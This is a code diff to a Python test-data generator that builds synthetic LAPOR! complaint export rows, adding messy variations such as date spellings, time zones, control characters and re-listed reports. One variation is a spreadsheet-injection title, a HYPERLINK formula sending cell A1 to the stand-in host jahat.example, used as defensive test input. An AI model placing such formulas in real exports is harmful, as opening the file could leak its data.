@@ -5,7 +5,7 @@ import datetime as dt
 import random
 
 from lapor import columns as c
-from lapor.parsing import format_date
+from lapor.parsing import format_date, parse_date
 
 INFO_ROWS = [
     ["Daftar Laporan"],
@@ -59,9 +59,18 @@ def row(tracking_id, **overrides) -> dict:
     return values
 
 
-def random_rows(count, *, start_id=4_000_000, seed=7):
-    """``count`` varied rows: every status, category and agency above, dates over 2025."""
+def random_rows(count, *, start_id=4_000_000, seed=7, varied=False):
+    """``count`` rows: every status, category and agency above, dates over 2025.
+
+    ``varied``: also the ways real exports differ from these tidy rows (``VARIATIONS``:
+    other spellings of dates, times, zones, classifications, types and ratings; texts with
+    line breaks, formula-like starts or control characters; values too long; unmapped or
+    missing categories and agencies; every LAPOR! status), and now and then a report listed
+    again a few rows further down with a later status, as LAPOR! does when a status changes.
+    The tidy rows stay the same rows (the benchmark's file does not change)."""
     rng = random.Random(seed)
+    vary = random.Random(seed + 1) if varied else None
+    later = []  # (index after which to list it again, row)
     first = dt.date(2025, 1, 1)
     for index in range(count):
         category_id, category = rng.choice(CATEGORIES)
@@ -70,7 +79,7 @@ def random_rows(count, *, start_id=4_000_000, seed=7):
         day = first + dt.timedelta(days=rng.randrange(330))
         words = " ".join(rng.choice(["lampu", "jalan", "mati", "parkir", "rusak", "berlubang", "warga", "mohon"])
                          for _ in range(rng.randrange(20, 60)))  # fmt: skip
-        yield row(
+        values = row(
             start_id + index,
             **{
                 c.DATE: format_date(day),
@@ -88,6 +97,73 @@ def random_rows(count, *, start_id=4_000_000, seed=7):
                 c.RATING: rng.choice(["", "", "4", "5", "3"]),
             },
         )
+        if vary is None:
+            yield values
+            continue
+        for _ in range(vary.choice([0, 1, 1, 2, 3])):
+            vary.choice(VARIATIONS)(vary, values)
+        yield values
+        if vary.random() < 0.06:
+            again = dict(values, **{c.STATUS: vary.choice(LATER_STATUSES).replace("{agency}", values[c.AGENCY] or "-")})
+            later.append((index + vary.randrange(1, 40), again))
+        for item in [item for item in later if item[0] <= index]:
+            later.remove(item)
+            yield item[1]
+    yield from (item[1] for item in later)
+
+
+ID_MONTHS = ["Januari", "Februari", "Maret", "April", "Mei", "Juni", "Juli", "Agustus", "September", "Oktober",
+             "November", "Desember"]  # fmt: skip
+LATER_STATUSES = ["Terdisposisi ke {agency}", "Ditindaklanjuti oleh Instansi", "Ditanggapi oleh Pelapor",
+                  "Selesai otomatis dalam 10 hari", "Ditutup oleh Sistem", "Diarsipkan oleh Sistem"]  # fmt: skip
+
+
+def _day(values) -> dt.date:
+    return parse_date(values[c.DATE])
+
+
+def _zoned_time_near_midnight(rng, values):
+    hour, zone = rng.choice(["00", "01", "23"]), rng.choice(["WITA", "WIT", "wita"])
+    values[c.TIME] = f"{hour}:{rng.randrange(60):02d} {zone}"
+
+
+def _line_breaks(rng, values):
+    values[c.TEXT_FINAL] = values[c.TEXT_FINAL].replace(" mohon ", ".\r\nMohon ", 1) + "\r\n\r\nTerima kasih."
+
+
+def _pair(id_column, name_column, pairs):
+    """A LAPOR! ID always comes with the same name."""
+    return lambda rng, values: values.update(dict(zip((id_column, name_column), rng.choice(pairs), strict=True)))
+
+
+def _set(**changes):
+    return lambda rng, values: values.update({name: rng.choice(options) for name, options in changes.items()})
+
+
+VARIATIONS = [
+    _set(**{c.TIME: ["", "07.15", "7:05", "23:59:59", "08:00 WIB"]}),
+    _zoned_time_near_midnight,
+    lambda rng, v: v.update({c.DATE: f"{_day(v).day} {ID_MONTHS[_day(v).month - 1]} {_day(v).year}"}),
+    lambda rng, v: v.update({c.DATE: rng.choice([_day(v).isoformat(), f"{_day(v):%d/%m/%Y}"])}),
+    _set(**{c.CLASSIFICATION: ["pengaduan", "Aspirasi", "Permintaan Informasi", "", "Whistleblowing"]}),
+    _set(**{c.TYPE: ["anonim", "Rahasia, Anonim", "Tidak", "-", "RAHASIA"]}),
+    _set(**{c.RATING: ["4.0", "5,0", "0", "6", "baik", "3"]}),
+    lambda rng, v: v.update({c.TEXT_FINAL: ""}),
+    _line_breaks,
+    _set(**{c.TITLE: ['=HYPERLINK("http://jahat.example/?d="&A1,"Klik")', "+62 812 3456 7890 lampu mati",
+                      "- jalan berlubang", "@dishub tolong", "'Lampu' mati", "''=1+1"]}),
+    lambda rng, v: v.update({c.TEXT_INITIAL: "=1+2 " + v[c.TEXT_INITIAL], c.TEXT_FINAL: "-" + v[c.TEXT_FINAL]}),
+    lambda rng, v: v.update({c.TEXT_FINAL: v[c.TEXT_FINAL] + "\x0bdisalin dari Word\x07"}),
+    lambda rng, v: v.update({c.TITLE: "Judul yang sangat panjang " * 10, c.REPORTER_NAME: "Nama Panjang " * 12}),
+    lambda rng, v: v.update({c.TITLE: "  " + v[c.TITLE] + "  ", c.REPORTER_NAME: v[c.REPORTER_NAME] + " "}),
+    _set(**{c.KELURAHAN: ["BENDOGERIT", "bendogerit", "Kauman", ""], c.KECAMATAN: ["", "SANANWETAN", "Sananwetan"]}),
+    _pair(c.CATEGORY_ID, c.CATEGORY, [("555", "Pohon Tumbang"), ("", "Parkir Liar"), ("556", "Baliho"), ("", "")]),
+    _pair(c.AGENCY_ID, c.AGENCY, [("777", "Badan Pendapatan Daerah"), ("", "Dinas PUPR"), ("", "")]),
+    _set(**{c.STATUS: ["Ditanggapi oleh Pelapor", "Ditutup oleh Sistem", "Diarsipkan oleh Sistem",
+                       "Ditindaklanjuti  oleh  Instansi", "Selesai otomatis dalam 10 hari"]}),
+    lambda rng, v: v.update({c.STATUS: "Belum Terverifikasi", c.AGENCY_ID: "", c.AGENCY: ""}),
+    _set(**{c.DECREE_NUMBER: ["", "188/45/410.010/2025"], c.SETWAPRES: ["Ya", "", "Tidak"]}),
+]  # fmt: skip
 
 
 def write_xlsx(path, rows, *, columns=None, info_rows=INFO_ROWS):
@@ -100,9 +176,16 @@ def write_xlsx(path, rows, *, columns=None, info_rows=INFO_ROWS):
         sheet.append(info)
     sheet.append(columns)
     for values in rows:
-        sheet.append([values.get(name, "") for name in columns])
+        # An XLSX cannot hold control characters (XML): a real export has none either.
+        sheet.append([_xml_safe(values.get(name, "")) for name in columns])
     workbook.save(path)
     return path
+
+
+def _xml_safe(value):
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
 
 
 def write_csv(path, rows, *, columns=None, info_rows=INFO_ROWS, encoding="utf-8-sig", delimiter=","):
